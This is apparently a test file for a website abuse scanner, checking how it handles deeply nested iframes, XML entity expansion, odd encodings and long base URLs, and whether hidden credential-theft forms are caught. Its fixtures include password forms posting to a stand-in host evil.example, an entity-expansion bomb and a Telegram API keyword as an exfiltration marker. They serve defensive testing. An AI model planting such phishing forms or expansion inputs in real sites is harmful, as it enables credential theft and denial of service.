/** PIPELINE 3: what the frames of a page hold is read at most sixteen times in all, and what is past that refuses the
 *  page. Counted are the parts (tags and texts) that are read, which no machine makes more. */
import { describe, expect, test } from "bun:test";
import { scanAbuse } from "../../src/pipeline/abuse/index.ts";
import { draftOf } from "../kit/patterns/judged.ts";
import { judgePage, NEW_SITE } from "../kit/abuse-site.ts";
import { expectWithin } from "../kit/cpu.ts";

const quoted = (page: string): string =>
  page.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
const frame = (page: string): string => `<iframe srcdoc="${quoted(page)}"></iframe>`;
/** Its tags do not nest, so that it is read in four ways. */
const doubtful = (page: string): string => `<svg></x></svg>${page}`;
const nested = (depth: number, inner: string, around: (page: string) => string): string =>
  depth === 0 ? inner : around(frame(nested(depth - 1, inner, around)));

const THEFT = "<form action=https://evil.example><input type=password></form>";

function partsRead(files: Record<string, string>): number {
  let parts = 0;
  const budget = { check() {}, step: () => void parts++ };
  scanAbuse(draftOf({ "index.html": "", ...files }), NEW_SITE, () => {}, undefined, budget);
  return parts;
}

describe("frames in frames", () => {
  test("each level in four ways is four readings a level, not four times the readings around it", () => {
    const parts = (depth: number) => partsRead({ "a.html": nested(depth, doubtful(""), doubtful) });
    expect(parts(2) - parts(1)).toBe(parts(3) - parts(2));
  });

  test("a frame that a document type's entities repeat ten thousand times is read once", () => {
    const entity = (name: string, of: string) => `<!ENTITY ${name} "${`&${of};`.repeat(10)}">`;
    const page = (entities: string, last: string) =>
      `<!DOCTYPE x [<!ENTITY a "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&#38;lt;svg>&#38;lt;/x>'/>">${entities}]><x>&${last};</x>`;
    const [one, many] = ["", entity("b", "a") + entity("c", "b") + entity("d", "c") + entity("e", "d")];
    const repeated = partsRead({ "a.xhtml": page(many, "e") });
    // Each of them is a part, and a step when it is recognised.
    expect(repeated).toBeLessThan(20_000 + 2 * partsRead({ "a.xhtml": page(one, "a") }));
  });

  test("what would be read more than sixteen times refuses the page, unless its form is found before", () => {
    // In two encodings that differ in one character, each in four ways, on three levels.
    const latin = (inner: string) =>
      new Uint8Array(
        Buffer.from(
          nested(3, doubtful(`\x80${inner}`), (page) => doubtful(`\x80${page}`)),
          "latin1",
        ),
      );
    expect(judgePage(latin(`<p>${"a".repeat(10_000)}`))).toBe("too_complex");
    expect(judgePage(latin(THEFT))).toBe("abuse_rejected");
    expect(judgePage(nested(3, doubtful("<p>"), doubtful))).toBe("pass");
  });

  test("deeper than four levels is refused", () => {
    expect(judgePage(nested(4, "<p>", (page) => page))).toBe("too_complex");
  });
});

describe("many frames beside each other are read, each of them", () => {
  const places: [what: string, one: (page: string) => string][] = [
    ["frames", frame],
    ["noscripts", (page) => `<noscript>${page}</noscript>`],
    ["addresses of data", (page) => `<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe>`],
  ];
  test.each(places)("a hundred %s pass, and the last one's form is found", (_, one) => {
    const honest = Array.from({ length: 100 }, (_, i) => one(`<p>${i}</p><img src=${i}.png>`)).join("");
    expect(judgePage(honest)).toBe("pass");
    expect(judgePage(honest + one(THEFT))).toBe("abuse_rejected");
  });

  test("the same frame on another base is another", () => {
    const form = '<form action="x"><input type=password></form>';
    const based = (base: string) => frame(`<base href="${base}">${frame(form)}`);
    expect(judgePage(frame(form) + based("/b/"))).toBe("pass");
    expect(judgePage(frame(form) + based("/b/") + based("https://evil.example/"))).toBe("abuse_rejected");
  });
});

test("a base that is longer than any address refuses the page: each address of it is resolved against that", () => {
  expect(judgePage(`<base href="/${"a".repeat(5000)}/"><p>`)).toBe("pass");
  expect(judgePage(`<base href="/${"a".repeat(9000)}/"><p>`)).toBe("too_complex");
});

test("a script that forty pages load is looked through once for what it loads in turn", () => {
  const site = (pages: number) =>
    draftOf({
      ...Object.fromEntries(
        Array.from({ length: pages }, (_, i) => [`${i}.html`, "<input type=password><script src=a.js></script>"]),
      ),
      "a.js": "'a' \"b\" ".repeat(50_000),
      "z.js": "api.telegram.org",
    });
  const [few, many] = [site(2), site(40)];
  const scan = (draft: typeof few) => scanAbuse(draft, NEW_SITE, () => {});
  expectWithin(
    3,
    () => scan(few),
    () => scan(many),
  );
});

test("frames are told from each other without their bases, which may be long", () => {
  const bases = (length: number) =>
    Array.from({ length: 20 }, (_, i) => `<base href="${String(i).repeat(length)}">`).join("");
  const frames = "<iframe srcdoc=x></iframe>".repeat(50_000);
  const [short, long] = [draftOf({ "index.html": bases(1) + frames }), draftOf({ "index.html": bases(4000) + frames })];
  const scan = (draft: typeof short) => scanAbuse(draft, NEW_SITE, () => {});
  expectWithin(
    3,
    () => scan(short),
    () => scan(long),
  );
});
